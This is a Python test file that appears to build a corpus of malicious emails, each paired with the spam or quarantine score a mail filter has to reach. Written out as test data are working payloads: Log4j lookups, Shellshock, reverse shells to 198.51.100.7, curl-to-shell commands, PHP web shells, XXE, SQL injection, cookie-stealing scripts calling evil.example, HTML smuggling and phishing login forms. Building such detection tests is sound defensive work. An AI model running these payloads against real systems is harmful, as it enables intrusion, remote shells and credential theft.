"""Attacks, all written for this corpus, and the score that each has to reach: 5 or 10."""

# ruff: noqa: E501, RUF001 - lines and look-alikes are as attacks have them

from __future__ import annotations

import base64

from tests.policy.corpus.building import mail, raw_mail, zipped

QUARANTINED, REJECTED = 5.0, 10.0
_BASE64_COMMAND = base64.b64encode("Write-Output 'not harmful at all'".encode("utf-16-le")).decode()
_SMUGGLED = f"""<html><body><script>
var bytes = atob("{base64.b64encode(b"x" * 60).decode()}");
var file = new Blob([bytes], {{type: 'octet/stream'}});
var a = document.createElement('a'); a.href = URL.createObjectURL(file); a.download = 'invoice.iso'; a.click();
</script></body></html>"""
_LOGIN_PAGE = """<html><head><title>Sign in</title></head><body>
<form method="post" action="https://collect.evil.example/post.php"><input type="email" name="u">
<input type="password" name="p"><button>Sign in</button></form></body></html>"""
_DOUBLE_TYPE = (
    "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n"
    'Content-Type: multipart/mixed; boundary="b1"\r\nSubject: two readings'
)
_HIDDEN_PART = "--b1\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(document.cookie)>\r\n--b1--\r\n"


def _link(href: str, shown: str = "Open the document", sender: str = "x@evil.example") -> bytes:
    return mail("Document", html=f'<p>Hello, <a href="{href}">{shown}</a></p>', sender=sender)


def _html(markup: str) -> bytes:
    return mail("Hello", html=f"<html><body><p>Hello</p>{markup}</body></html>")


def _text(text: str) -> bytes:
    return mail("Question", f"Hello,\n\n{text}\n")


def _many_parts(count: int) -> bytes:
    parts = "".join(f"--b\r\n\r\nx{number}\r\n" for number in range(count))
    return raw_mail("Content-Type: multipart/mixed; boundary=b", body=f"{parts}--b--\r\n")


def _deep(levels: int) -> bytes:
    body = "the end"
    for level in range(levels):
        body = (
            f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n"
            f"--b{level}\r\n{body}\r\n--b{level}--\r\n"
        )
    head, _, rest = body.partition("\r\n\r\n")
    return raw_mail(head, body=rest)


CODE_ATTACKS: dict[str, tuple[bytes, float]] = {
    "Log4j in the subject": (mail("${jndi:ldap://198.51.100.7:1389/a}", "x\n"), REJECTED),
    "Log4j in a header": (
        mail("Hi", "x\n", headers=(("User-Agent", "${jndi:rmi://evil.example/x}"),)),
        REJECTED,
    ),
    "Log4j in an encoded subject": (
        raw_mail(
            "Subject: =?utf-8?B?" + base64.b64encode(b"${jndi:dns://evil.example}").decode() + "?="
        ),
        REJECTED,
    ),
    "hidden Log4j in the text": (
        _text("${${lower:j}${lower:n}di:ldap://198.51.100.7/a}"),
        QUARANTINED,
    ),
    "hidden Log4j by defaults": (
        _text("${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.7/a}"),
        QUARANTINED,
    ),
    "Shellshock": (
        mail("Hi", "x\n", headers=(("X-Test", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),)),
        REJECTED,
    ),
    "Shellshock in the subject": (
        mail("() { ignored; }; wget http://evil.example/x", "x\n"),
        REJECTED,
    ),
    "Exim expansion": (
        raw_mail("Subject: x", "Cc: root+${run{/bin/sh -c id}}@localhost"),
        REJECTED,
    ),
    "shell in the subject": (mail("Report $(curl http://evil.example/x | sh)", "x\n"), QUARANTINED),
    "backticks in the subject": (
        mail("Ticket `wget http://evil.example/x -O /tmp/x`", "x\n"),
        QUARANTINED,
    ),
    "pipe as a recipient": (
        raw_mail("Subject: x", 'Reply-To: "|/bin/sh -c id"@evil.example'),
        REJECTED,
    ),
    "substitution as a name": (
        raw_mail("Subject: x", "Cc: $(curl evil.example)@example.net"),
        REJECTED,
    ),
    "reverse shell": (_text("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), QUARANTINED),
    "reverse shell by netcat": (_text("nc -e /bin/sh 198.51.100.7 4444"), QUARANTINED),
    "reverse shell by a pipe": (
        _text("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"),
        QUARANTINED,
    ),
    "download from an address": (_text("wget http://198.51.100.7/bot.sh -O- | sh"), QUARANTINED),
    "encoded PowerShell": (
        _text(f"powershell.exe -nop -w hidden -enc {_BASE64_COMMAND}"),
        QUARANTINED,
    ),
    "mshta": (_text("Please start: mshta https://evil.example/fix.hta"), QUARANTINED),
    "paste and run": (
        _text("To prove that you are human press Windows + R, then\npress CTRL + V and Enter."),
        QUARANTINED,
    ),
    "template injection, Jinja": (
        _text("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        QUARANTINED,
    ),
    "template injection, Spring": (
        _text("${T(java.lang.Runtime).getRuntime().exec('id')}"),
        QUARANTINED,
    ),
    "template injection, Struts": (
        _text("%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
        QUARANTINED,
    ),
    "template probe": (mail("{{7*7}}", "x\n"), QUARANTINED),
    "PHP shell": (_text("<?php system($_GET['cmd']); ?>"), QUARANTINED),
    "PHP hidden": (_text("<?php eval(base64_decode('ZWNobyAxOw==')); ?>"), QUARANTINED),
    "PHP in a header": (
        mail("Hi", "x\n", headers=(("X-Mailer", "<?php eval($_POST['x']); ?>"),)),
        QUARANTINED,
    ),
    "XML entity": (
        _text('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        QUARANTINED,
    ),
    "path in a ZIP": (
        mail(
            "Files",
            "x\n",
            attachments=(("f.zip", "application/zip", zipped("../../../etc/cron.d/x")),),
        ),
        QUARANTINED,
    ),
    "command in a file name": (
        mail(
            "Files", "x\n", attachments=(("a$(curl evil.example|sh).pdf", "application/pdf", b"x"),)
        ),
        QUARANTINED,
    ),
    "SQL in the subject": (mail("x' OR '1'='1", "x\n"), QUARANTINED),
    "SQL tautology": (_text("My name is admin' OR '1'='1' -- "), QUARANTINED),
    "SQL stacked": (_text("Robert'); DROP TABLE students; --"), QUARANTINED),
    "SQL union": (mail("Order 1' UNION SELECT user, password FROM users -- ", "x\n"), QUARANTINED),
    "SQL union in the text": (
        _text("id=-1' UNION SELECT NULL,NULL,concat(user,0x3a,password) FROM mysql.user' OR 1=1#"),
        QUARANTINED,
    ),
    "SQL timed": (_text("1' AND SLEEP(5)#"), QUARANTINED),
    "SQL timed, SQL Server": (_text("1'; WAITFOR DELAY '0:0:10'--"), QUARANTINED),
}

HTML_ATTACKS: dict[str, tuple[bytes, float]] = {
    "script that sends cookies": (
        _html("<script>new Image().src='//evil.example/?'+document.cookie</script>"),
        QUARANTINED,
    ),
    "script from elsewhere in a file": (
        mail(
            "Statement",
            "See the file.\n",
            attachments=(
                (
                    "statement.html",
                    "application/octet-stream",
                    b'<script src="https://evil.example/x.js"></script>',
                ),
            ),
        ),
        QUARANTINED,
    ),
    "redirect in a file": (
        mail(
            "Voice message",
            "See the file.\n",
            attachments=(
                (
                    "voice.htm",
                    "text/html",
                    b"<script>window.location.href='https://evil.example/'</script>",
                ),
            ),
        ),
        QUARANTINED,
    ),
    "script with hidden code": (_html("<script>eval(atob('YWxlcnQoMSk='))</script>"), REJECTED),
    "script with hidden markup": (
        _html(f"<script>document.write(unescape('{'%3Cb%3E' * 30}'))</script>"),
        QUARANTINED,
    ),
    "script in capital letters": (_html("<ScRiPt >alert(1)</sCrIpT>"), QUARANTINED),
    "script in UTF-7": (
        raw_mail(
            "Subject: x",
            "Content-Type: text/html; charset=utf-7",
            body="+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
        ),
        QUARANTINED,
    ),
    "HTML smuggling": (mail("Invoice", html=_SMUGGLED), REJECTED),
    "HTML smuggling in a file": (
        mail(
            "Invoice",
            "See the file.\n",
            attachments=(("invoice.html", "application/octet-stream", _SMUGGLED.encode()),),
        ),
        REJECTED,
    ),
    "onerror": (_html("<img src=x onerror=alert(document.domain)>"), QUARANTINED),
    "onload of an SVG": (
        _html("<svg/onload=fetch('//evil.example/'+document.cookie)>"),
        QUARANTINED,
    ),
    "ontoggle": (_html("<details open ontoggle=eval(name)>"), QUARANTINED),
    "script as an address": (_link("javascript:fetch('//evil.example')"), QUARANTINED),
    "script as an address, entities": (_link("j&#97;v&#x61;script&colon;alert(1)"), QUARANTINED),
    "script as an address, white space": (_link("java\tscript:alert(1)"), QUARANTINED),
    "VBScript as an address": (_link("vbscript:msgbox(1)"), QUARANTINED),
    "page in a data address": (
        _link("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        QUARANTINED,
    ),
    "page in a frame's data": (
        _html('<iframe src="data:text/html,<form action=//evil.example>"></iframe>'),
        QUARANTINED,
    ),
    "hidden frame": (
        _html('<iframe src="https://evil.example/kit" width="0" height="0"></iframe>'),
        QUARANTINED,
    ),
    "refresh": (
        _html('<meta http-equiv="refresh" content="0;url=https://evil.example/login">'),
        QUARANTINED,
    ),
    "object that runs programs": (
        _html('<object classid="clsid:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B"></object>'),
        QUARANTINED,
    ),
    "password form": (mail("Verify", html=_LOGIN_PAGE), QUARANTINED),
    "password form in a file": (
        mail(
            "Statement",
            "See the file.\n",
            attachments=(("statement.htm", "application/octet-stream", _LOGIN_PAGE.encode()),),
        ),
        QUARANTINED,
    ),
    "link shows a bank": (
        _link("http://198.51.100.7/bank/login", "https://www.bank.example/login"),
        QUARANTINED,
    ),
    "link shows an account": (
        _link("https://evil.example/a", "https://account.shop.example/verify"),
        QUARANTINED,
    ),
    "link to a number": (_link("http://3325256711/login"), QUARANTINED),
    "link with userinfo": (_link("https://www.bank.example.com@evil.example/login"), QUARANTINED),
    "link to a Cyrillic look-alike": (_link("https://www.раураl.example/"), QUARANTINED),
    "link to a look-alike in punycode": (_link("https://xn--80ak6aa92e.com/"), QUARANTINED),
    "script behind an address": (_link("http://198.51.100.7/update.exe"), QUARANTINED),
    "line end in the subject": (mail("Hello%0d%0aBcc:victim@example.net", "x\n"), QUARANTINED),
    "line end in an encoded word": (
        raw_mail("Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@example.net?="),
        REJECTED,
    ),
    "two types": (raw_mail(_DOUBLE_TYPE, body=_HIDDEN_PART), QUARANTINED),
    "5,000 parts": (_many_parts(5000), QUARANTINED),
    "200 levels": (_deep(200), QUARANTINED),
    "archive with its password": (
        mail(
            "Invoice",
            "Archive password: 4711-xyz\n",
            attachments=(
                ("invoice.zip", "application/zip", zipped("invoice.js", is_encrypted=True)),
            ),
        ),
        QUARANTINED,
    ),
    "two From headers, an address as the name": (
        raw_mail(
            "From: ceo@example.net",
            "Subject: Transfer",
            sender='"ceo@example.net" <x@evil.example>',
        ),
        QUARANTINED,
    ),
}
ATTACKS = CODE_ATTACKS | HTML_ATTACKS
